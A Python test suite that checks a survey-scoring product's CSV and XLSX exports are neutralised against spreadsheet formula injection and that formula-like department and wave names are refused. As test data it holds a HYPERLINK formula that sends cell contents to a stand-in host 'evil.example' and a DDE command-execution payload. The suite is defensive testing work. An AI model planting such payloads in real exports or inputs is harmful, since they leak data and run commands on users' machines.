"""Every CSV and XLSX the product writes holds no live formula or link, even with hostile names in the database;
and new names that begin like a formula are refused, while names are stored in one spelling."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pytest
from trust_data import canonical_csv

from smm_maturity import scoring, store, template, upload_flow
from smm_maturity.exports import tables
from smm_maturity.ingest import read_upload
from smm_maturity.safe_text import FORMULA_PREFIXES, neutralise

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
HOSTILE_NAMES = [HOSTILE, "+49 Vertrieb", "-Einkauf", "@Lager", "\tTab", "\rCR"]


def hostile_database(path: Path) -> duckdb.DuckDBPyConnection:
    """A database from before names were checked: departments and a wave that begin like formulas, each with
    enough answers to be shown."""
    con = store.connect(path)
    with store.transaction(con) as cur:
        cur.execute("insert into departments (name) select unnest(?::varchar[])", [HOSTILE_NAMES])
        cur.execute("insert into waves (name) values (?)", ["=1+1"])
    for marker, name in enumerate(HOSTILE_NAMES, 1):
        batch = read_upload(hostile_csv(marker, name), f"{marker}.csv")
        assert () == batch.errors
        store.store_batch(con, batch, "=1+1")
    return con


def hostile_csv(marker: int, department: str) -> bytes:
    """A canonical CSV of 6 respondents of a department, with a comment that begins like a formula."""
    text = canonical_csv(marker, 6).decode("utf-8").replace(f"Abteilung {marker:02d}", department.strip())
    return text.replace(";Kommentar", ";=cmd|' /C calc'!A0").encode("utf-8")


def formula_like(cell: object) -> bool:
    """A text cell that a spreadsheet program would read as a formula; numbers such as -0,5 are not."""
    if not isinstance(cell, str) or not cell.startswith(FORMULA_PREFIXES):
        return False
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return True
    return False


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    header = text.splitlines()[0]
    delimiter = ";" if header.count(";") > header.count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def xlsx_problems(data: bytes) -> list[str]:
    """Formulas, links and formula-like text cells in a workbook."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                found += [f"{name}: formula" for _ in range(xml.count("<f>") + xml.count("<f "))]
                found += [f"{name}: link"] if "<hyperlink" in xml else []
            if "externalLink" in name or name.endswith(".rels") and b"hyperlink" in archive.read(name):
                found.append(f"{name}: link")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            found += [f"{sheet.title}!{c.coordinate}: {c.value!r}" for c in row if formula_like(c.value)]
    return found


def every_file(con: duckdb.DuckDBPyConnection) -> dict[str, bytes]:
    """Every CSV and XLSX the product writes, from this database."""
    departments = store.department_names(con)
    files = {}
    for lang in ("de", "en"):
        files[f"template-{lang}.csv"] = template.template_csv(lang, departments=departments)
        files[f"template-{lang}.xlsx"] = template.template_xlsx(lang, departments=departments)
        for download in upload_flow.template_downloads(lang, departments):
            files[f"download-{lang}-{download.key}-{download.file_name}"] = download.data
        scores = scoring.wave_scores(con, "=1+1", 5)
        files[f"aggregates-{lang}.csv"] = tables.aggregates_csv(scores, lang=lang)
        files[f"aggregates-{lang}.xlsx"] = tables.aggregates_xlsx(scores, lang=lang)
        bad = f"respondent_id;department;{HOSTILE};SIL1\nr1;{HOSTILE};=2+3;@SUM(A1)\n".encode()
        files[f"problems-{lang}.csv"] = upload_flow.problem_csv(read_upload(bad, "bad.csv"), lang)
    return files


def test_no_file_the_product_writes_holds_a_formula_or_a_link(tmp_path: Path) -> None:
    con = hostile_database(tmp_path / "hostile.duckdb")
    files = every_file(con)
    con.close()
    problems = {
        name: csv_cells(data) if name.endswith(".csv") else xlsx_problems(data)
        for name, data in files.items()
    }
    problems = {
        name: [c for c in found if not name.endswith(".csv") or formula_like(c)]
        for name, found in problems.items()
    }
    assert {name: [] for name in files} == problems
    shown = {
        name for name, data in files.items() if name.endswith(".csv") and f"'{HOSTILE}" in csv_cells(data)
    }
    assert {"aggregates-de.csv", "aggregates-en.csv", "problems-de.csv", "problems-en.csv"} == shown


def test_numbers_stay_numbers_and_only_text_is_neutralised() -> None:
    assert [-0.5, 3, None, "'-Einkauf", "'=1+1", "Vertrieb", "'\tTab"] == [
        neutralise(value) for value in (-0.5, 3, None, "-Einkauf", "=1+1", "Vertrieb", "\tTab")
    ]


@pytest.mark.parametrize("name", HOSTILE_NAMES[:4])
def test_a_new_department_that_begins_like_a_formula_is_refused(tmp_path: Path, name: str) -> None:
    con = store.connect(tmp_path / "db.duckdb")
    rows = canonical_csv(1, 6).decode("utf-8").replace("Abteilung 01", "").encode("utf-8")
    with pytest.raises(store.ImportRejected) as refused:
        store.store_batch(con, read_upload(rows, "a.csv", department=f"  {name} "), "W1", f"  {name} ")
    stored = store.department_names(con), store.all_wave_names(con)
    con.close()
    assert str(refused.value).startswith(f'The department name "{name[:60]}" begins with =, +, -, @')
    assert ([], []) == stored


def test_a_new_wave_that_begins_like_a_formula_is_refused(tmp_path: Path) -> None:
    con = store.connect(tmp_path / "db.duckdb")
    with pytest.raises(store.ImportRejected, match=r'The wave name "=1\+1" begins with'):
        store.store_batch(con, read_upload(canonical_csv(1, 6), "a.csv"), "=1+1")
    assert [] == store.all_wave_names(con)
    con.close()


def test_department_and_wave_names_are_stored_in_one_spelling(tmp_path: Path) -> None:
    con = store.connect(tmp_path / "db.duckdb")
    store.set_headcount(con, "Vertrieb", 12)
    first = canonical_csv(1, 6).decode("utf-8").replace("Abteilung 01", "")
    store.store_batch(
        con, read_upload(first.encode("utf-8"), "a.csv", department="  Vertrieb "), "  Welle   1 "
    )
    second = canonical_csv(2, 6).decode("utf-8").replace("Abteilung 02", "")
    store.store_batch(
        con, read_upload(second.encode("utf-8"), "b.csv", department=" Vertrieb"), "Welle 1", "Vertrieb\t "
    )
    store.set_headcount(con, " Vertrieb", 14)
    assert (["Vertrieb"], ["Welle 1"], {"Vertrieb": 14}) == (
        [name for name in store.department_names(con) if "Vertrieb" in name],
        store.all_wave_names(con),
        store.headcounts(con),
    )
    assert ["Vertrieb", "Vertrieb"] == [upload.department for upload in store.uploads(con)]
    con.close()
